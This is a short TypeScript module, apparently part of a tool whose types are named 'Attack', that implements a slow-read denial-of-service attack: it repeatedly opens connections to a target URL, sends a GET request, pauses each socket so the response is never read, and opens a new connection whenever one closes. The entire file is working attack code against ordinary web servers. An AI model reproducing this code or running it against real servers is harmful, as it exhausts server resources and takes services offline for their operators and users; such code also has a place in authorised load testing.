import { type Attack, often, open } from './attack.ts'

/** Clients that ask for the feed and read nothing of the answer; one that is broken off is followed by another. */
export function slowReaders({ url, connections, perSecond, count }: Attack): void {
  const request = `GET ${url.pathname} HTTP/1.1\r\nHost: ${url.host}\r\nAccept-Encoding: identity\r\n\r\n`
  let atOnce = 0
  often(perSecond, () => {
    if (atOnce >= connections) return
    atOnce++
    const socket = open(url).pause()
    socket.write(request)
    socket.on('close', () => atOnce--)
    count()
  })
}
